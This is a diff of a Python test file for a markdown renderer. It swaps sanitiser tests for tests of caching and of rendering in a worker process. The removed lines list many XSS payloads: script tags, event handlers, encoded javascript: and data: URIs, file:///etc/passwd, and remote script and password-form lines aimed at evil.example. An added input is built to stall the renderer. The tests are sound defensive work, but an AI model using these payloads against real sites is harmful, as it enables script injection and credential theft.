@@ -1,239 +1,121 @@
-"""What authors write is shown as they mean it, and can do nothing else."""
-from html.parser import HTMLParser
-from urllib.parse import urlsplit
+"""Texts are rendered once for all who open them, and long ones in another process."""
+import asyncio
+import threading
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
-from components.prose import ATTRIBUTES, SCHEMES, TAGS, render
-from db import settings
+from components import prose
+from db import TooComplex, settings
+from formats import markdown as md
 
-from .hostile_markup import VECTORS
-
-
-class Markup(HTMLParser):
-    """The tags a browser would see, each with its attributes."""
-
-    def __init__(self, markup: str) -> None:
-        super().__init__()
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.feed(markup)
-        self.close()
-
-    def handle_starttag(self, tag, attrs) -> None:
-        self.tags.append((tag, dict(attrs)))
-
-    def named(self, name: str) -> list[dict[str, str | None]]:
-        return [attributes for tag, attributes in self.tags if tag == name]
+LONG = '**Cells** hold what you compute. ' * 500
+HOSTILE = '|' * 501 + '\n' + '|-' * 500 + '|\n' + '|\n' * 4000
 
 
-def assert_harmless(markup: str) -> None:
-    for tag, attributes in Markup(markup).tags:
-        assert tag in TAGS, f'<{tag}> got through: {markup}'
-        for name, value in attributes.items():
-            assert name in ATTRIBUTES.get(tag, ()), f'{name}= got through on <{tag}>: {markup}'
-            if name in ('href', 'src'):
-                assert urlsplit(value or '').scheme in SCHEMES | {''}, f'{value} got through: {markup}'
-            if name == 'style':
-                assert (value or '').startswith('text-align'), f'{value} got through: {markup}'
+@pytest.fixture(autouse=True)
+def nothing_kept():
+    prose.forget_texts()
+    yield
+    prose.forget_texts()
 
 
-RAW_HTML = [
-    '<script>alert(1)</script>',
-    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-    '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    'text <script>alert(1)</script> text',
-    '- <script>alert(1)</script>',
-    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
-    '<img src=x onerror=alert(1)>',
-    '<img src="x" ONERROR = "alert(1)">',
-    '<img/src/onerror=alert(1)>',
-    '<svg onload=alert(1)>',
-    '<svg><script>alert(1)</script></svg>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    '<object data="data:text/html,<script>alert(1)</script>"></object>',
-    '<embed src="//evil.example/x.swf">',
-    '<style>body { background: url(javascript:alert(1)) }</style>',
-    '<link rel=stylesheet href=//evil.example/x.css>',
-    '<meta http-equiv="refresh" content="0;url=//evil.example">',
-    '<base href="//evil.example/">',
-    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
-    '<input autofocus onfocus=alert(1)>',
-    '<details open ontoggle=alert(1)>',
-    '<video><source onerror=alert(1)></video>',
-    '<body onload=alert(1)>',
-    '<p style="position:fixed;inset:0">over everything</p>',
-    '<p id="main" class="co-btn" name="socket">clobbers</p>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<!--><img src=x onerror=alert(1)>-->',
-    '<![CDATA[<img src=x onerror=alert(1)>]]>',
-    '<?xml version="1.0"?><script>alert(1)</script>',
-    '\x00<script>alert(1)</script>',
-    '`</code><script>alert(1)</script>`',
-    '```\n</code></pre><script>alert(1)</script>\n```',
-    '```js" onmouseover="alert(1)\nx\n```',
-    '```</pre><script>alert(1)</script>\nx\n```',
-    '    </pre><script>alert(1)</script>',
-    '# <img src=x onerror=alert(1)>',
-    '&lt;script&gt;alert(1)&lt;/script&gt;',
-    '&#60;script&#62;alert(1)&#60;/script&#62;',
-]
+@pytest.fixture
+def jobs(monkeypatch):
+    """Texts that went to a worker."""
+    given = []
+    run = type(prose.RENDERING).run
 
-BAD_ADDRESSES = [
-    'javascript:alert(1)',
-    'JavaScript:alert(1)',
-    'jAvAsCrIpT:alert(1)',
-    ' javascript:alert(1)',
-    'javascript&colon;alert(1)',
-    'javascript&#58;alert(1)',
-    'javascript&#x3a;alert(1)',
-    '&#106;avascript:alert(1)',
-    '&#x6A;&#x61;vascript:alert(1)',
-    '&#0000106avascript:alert(1)',
-    'java&Tab;script:alert(1)',
-    'java&NewLine;script:alert(1)',
-    'java&#9;script:alert(1)',
-    'java&#10;script:alert(1)',
-    'java\\script:alert(1)',
-    '\x01javascript:alert(1)',
-    '&#1;javascript:alert(1)',
-    'javascript:%61lert(1)',
-    'javascript:alert`1`',
-    'vbscript:msgbox(1)',
-    'VBScript:msgbox(1)',
-    'file:///etc/passwd',
-    'data:text/html,<script>alert(1)</script>',
-    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-    'DATA:image/svg+xml,<svg onload=alert(1)>',
-    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
-    'data:image/png;base64,iVBORw0KGgo=',
-    'blob:https://cohort.example/1',
-    'view-source:javascript:alert(1)',
-    'feed:javascript:alert(1)',
-]
+    async def counted(self, function, *args, **kwargs):
+        given.append(args[0])
+        return await run(self, function, *args, **kwargs)
 
-FORMS = ['[a]({})', '[a](<{}>)', '![a]({})', '![a](<{}>)', '<{}>', '[a]\n\n[a]: {}', '[a]\n\n[a]: <{}> "t"']
+    monkeypatch.setattr(type(prose.RENDERING), 'run', counted)
+    return given
 
 
-@pytest.mark.parametrize('markdown', [*RAW_HTML, *VECTORS])
-def test_html_is_shown_and_never_run(markdown):
-    assert_harmless(render(markdown))
+async def test_a_text_that_is_opened_a_thousand_times_is_rendered_once(jobs):
+    first = await prose.rendered(LONG, '/files/')
+    for _ in range(999):
+        assert await prose.rendered(LONG, '/files/') == first
+    assert jobs == [LONG] and first == md.render(LONG, '/files/')
 
 
-@pytest.mark.parametrize('address', BAD_ADDRESSES)
-@pytest.mark.parametrize('form', FORMS)
-def test_a_link_leads_to_the_web_or_nowhere(address, form):
-    assert_harmless(render(form.format(address)))
+async def test_all_who_open_it_at_the_same_moment_wait_for_one_job(jobs):
+    found = await asyncio.gather(*(prose.rendered(LONG) for _ in range(50)))
+    assert jobs == [LONG] and set(found) == {md.render(LONG)}
 
 
-@pytest.mark.parametrize('markdown', [
-    '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
-    '![" onerror="alert(1)](https://x.example/a.png)',
-    '![a](https://x.example/"onerror="alert(1))',
-    '[a](https://x.example/"onmouseover="alert(1))',
-])
-def test_an_attribute_stays_inside_its_quotes(markdown):
-    assert_harmless(render(markdown))
+async def test_one_who_leaves_takes_it_from_nobody(jobs):
+    leaves, stays = (asyncio.create_task(prose.rendered(LONG)) for _ in range(2))
+    await asyncio.sleep(0)
+    leaves.cancel()
+    assert await stays == md.render(LONG) and jobs == [LONG]
 
 
-@given(st.text(alphabet='<>"\'`&;:/\\()[]!#*|-= \n\tajvscriptonerx&#09', max_size=200))
-def test_whatever_is_typed_is_harmless(markdown):
-    assert_harmless(render(markdown))
+async def test_other_files_and_other_rules_are_another_text(jobs):
+    text = f'{LONG} ![a](file:a.png)'
+    found = {await prose.rendered(text), await prose.rendered(text, '/1/'), await prose.rendered(text, '/2/'),
+             await prose.rendered(text, '/1/', pictures=False), await prose.drawn(lambda: prose.words(text))}
+    assert len(found) == 5
 
 
-def test_raw_html_can_be_read_as_text():
-    assert '&lt;script&gt;' in render('<script>alert(1)</script>')
-
-
-@pytest.mark.parametrize('address', ['https://x.example/', 'http://x.example/', '//x.example/', 'HTTPS://x.example/'])
-def test_a_link_out_of_the_house_opens_beside_and_tells_nothing(address):
-    [link] = Markup(render(f'[a]({address})')).named('a')
-    assert link['target'] == '_blank'
-    assert set((link['rel'] or '').split()) == {'noopener', 'noreferrer', 'nofollow'}
-
-
-@pytest.mark.parametrize('address', ['/sessions/1', '#top', 'mailto:ada@x.example', 'notes.txt'])
-def test_a_link_within_the_house_stays_in_place(address):
-    [link] = Markup(render(f'[a]({address})')).named('a')
-    assert link == {'href': address}
-
-
-def test_a_picture_from_elsewhere_is_a_link():
-    markup = Markup(render('![A chart](https://x.example/chart.png) ![here](/sessions/1) ![](http://x.example/y.png)'))
-    assert markup.named('img') == []
-    assert [link['href'] for link in markup.named('a')] == [
-        'https://x.example/chart.png', '/sessions/1', 'http://x.example/y.png']
-
-
-def test_a_picture_within_a_link_is_not_a_second_link():
-    markup = Markup(render('[![A chart](https://x.example/chart.png)](https://x.example/)'))
-    assert [link['href'] for link in markup.named('a')] == ['https://x.example/']
-
-
-def test_a_picture_of_an_allowed_host_loads_and_is_not_told_who_reads(monkeypatch):
+async def test_pictures_load_from_the_hosts_that_the_installation_allows(monkeypatch):
+    chart = '![A chart](https://x.example/chart.png)'
+    assert '<img' not in await prose.rendered(chart)
     monkeypatch.setattr(settings(), 'pictures', 'x.example, y.example:8443')
-    images = Markup(render('![A chart](https://x.example/chart.png) ![](https://Y.example:8443/y.png)'
-                           '![](http://x.example/z.png) ![](https://z.x.example/z.png)')).named('img')
-    assert [image['src'] for image in images] == ['https://x.example/chart.png', 'https://Y.example:8443/y.png']
-    assert images[0] == {
-        'src': 'https://x.example/chart.png', 'alt': 'A chart', 'loading': 'lazy', 'referrerpolicy': 'no-referrer',
-    }
+    assert '<img' in await prose.rendered(chart) and '<img' in await prose.rendered(f'{chart} {LONG}')
 
 
-def test_a_text_shows_files_of_its_own():
-    markup = Markup(render('![A chart](file:my%20chart.png) [notes](<file:notes (1).pdf>)', '/here/files/'))
-    assert markup.named('img')[0]['src'] == '/here/files/my%20chart.png'
-    assert markup.named('a') == [{'href': '/here/files/notes%20(1).pdf'}]
+async def test_a_short_text_needs_no_other_process(jobs):
+    assert await prose.rendered('It is *done*.') == '<p>It is <em>done</em>.</p>\n'
+    assert not jobs
 
 
-@pytest.mark.parametrize('address', ['file:///etc/passwd', 'file:../../x', 'file:a/b', 'file:?x', 'file:%2e%2e\\\\x'])
-def test_a_text_reaches_no_file_but_its_own(address):
-    assert 'src=' not in render(f'![a]({address})', '/here/files/').replace('![a](', '')
-    assert 'src=' not in render('![a](file:chart.png)')
+async def test_no_long_text_is_rendered_by_the_server_itself(monkeypatch):
+    def here(*args, **kwargs):
+        raise AssertionError(f'rendered in {threading.current_thread().name}')
+
+    monkeypatch.setattr(prose, '_job', here)
+    assert await prose.rendered(LONG) == md.render(LONG)
+    assert 'too complex' in await prose.rendered(HOSTILE)
 
 
-def test_the_page_keeps_the_only_h1():
-    markup = Markup(render('# One\n\n## Two\n\n###### Six\n\nAlso one\n==='))
-    assert [tag for tag, _ in markup.tags if tag != 'p'] == ['h2', 'h3', 'h6', 'h2']
+async def test_a_table_that_would_hold_everybody_up_is_told_in_a_sentence_and_never_rendered(jobs):
+    said = '<p class="muted">This text is too complex to show. Shorten it or split the table.</p>'
+    assert await prose.rendered(HOSTILE) == said
+    assert not jobs
 
 
-def test_headings_that_begin_lower_begin_right_under_the_title():
-    markup = Markup(render('## First\n\n### Within'))
-    assert [tag for tag, _ in markup.tags] == ['h2', 'h3']
+async def test_what_took_too_long_is_told_in_a_sentence_and_tried_again_later(monkeypatch, jobs):
+    async def ended(*_, **__):
+        jobs.append('')
+        raise TooComplex('Too much.')
+
+    monkeypatch.setattr(type(prose.RENDERING), 'run', ended)
+    assert await prose.rendered(LONG) == await prose.rendered(LONG) == '<p class="muted">Too much.</p>'
+    assert len(jobs) == 1
+    monkeypatch.undo()
+    monkeypatch.setattr(prose, 'monotonic', lambda: float('inf'))
+    assert await prose.rendered(LONG) == md.render(LONG)
 
 
-@pytest.mark.parametrize('markdown', ['```sql\nselect 1\n```', '    select 1'])
-def test_code_can_be_scrolled_from_the_keyboard(markdown):
-    [block] = Markup(render(markdown)).named('pre')
-    assert block == {'class': 'code', 'tabindex': '0'}
+async def test_a_page_does_not_wait_for_ever(monkeypatch):
+    monkeypatch.setattr(prose, 'PATIENCE', 0)
+    assert 'Reload the page in a moment' in await prose.rendered(LONG)
+    while prose._under_way:  # noqa: ASYNC110 - nothing tells
+        await asyncio.sleep(0.01)
+    assert await prose.rendered(LONG) == md.render(LONG)
 
 
-def test_code_keeps_its_language_and_its_words():
-    markup = render('```python\nif 1 < 2: print("&")\n```')
-    assert '<code class="language-python">if 1 &lt; 2: print(' in markup
+async def test_what_is_kept_is_bounded(monkeypatch):
+    monkeypatch.setattr(prose, 'MAX_KEPT', 10_000)
+    for n in range(200):
+        await prose.rendered(f'{n} ' * 100)
+    assert prose._kept._size <= 10_000
+    assert sum(len(made) + len(key) for key, (made, _) in prose._kept._texts.items()) == prose._kept._size
+    assert len(prose._kept._texts) > 5
 
 
-def test_tables_are_tables_and_can_be_scrolled():
-    markup = Markup(render('| a | b |\n|---|--:|\n| 1 | 2 |'))
-    assert [tag for tag, _ in markup.tags] == ['div', 'table', 'thead', 'tr', 'th', 'th', 'tbody', 'tr', 'td', 'td']
-    assert markup.named('div') == [{'class': 'table-box', 'tabindex': '0'}]
-    assert 'text-align' in (markup.named('td')[1]['style'] or '')
-
-
-def test_emphasis_strikethrough_lists_and_quotes_are_shown():
-    markup = render('*a* **b** ~~c~~ `d`\n\n> e\n\n3. f\n4. g')
-    shown = ('<em>a</em>', '<strong>b</strong>', '<s>c</s>', '<code>d</code>', '<blockquote>', '<ol start="3">')
-    for expected in shown:
-        assert expected in markup
-
-
-def test_an_address_in_running_text_stays_text():
-    assert Markup(render('See https://x.example and ada@x.example.')).named('a') == []
-
-
-def test_nothing_is_nothing():
-    assert render('') == ''
+def test_nothing_is_rendered_where_nobody_can_wait():
+    with pytest.raises(RuntimeError, match='prose.drawn'):
+        prose.render('a')
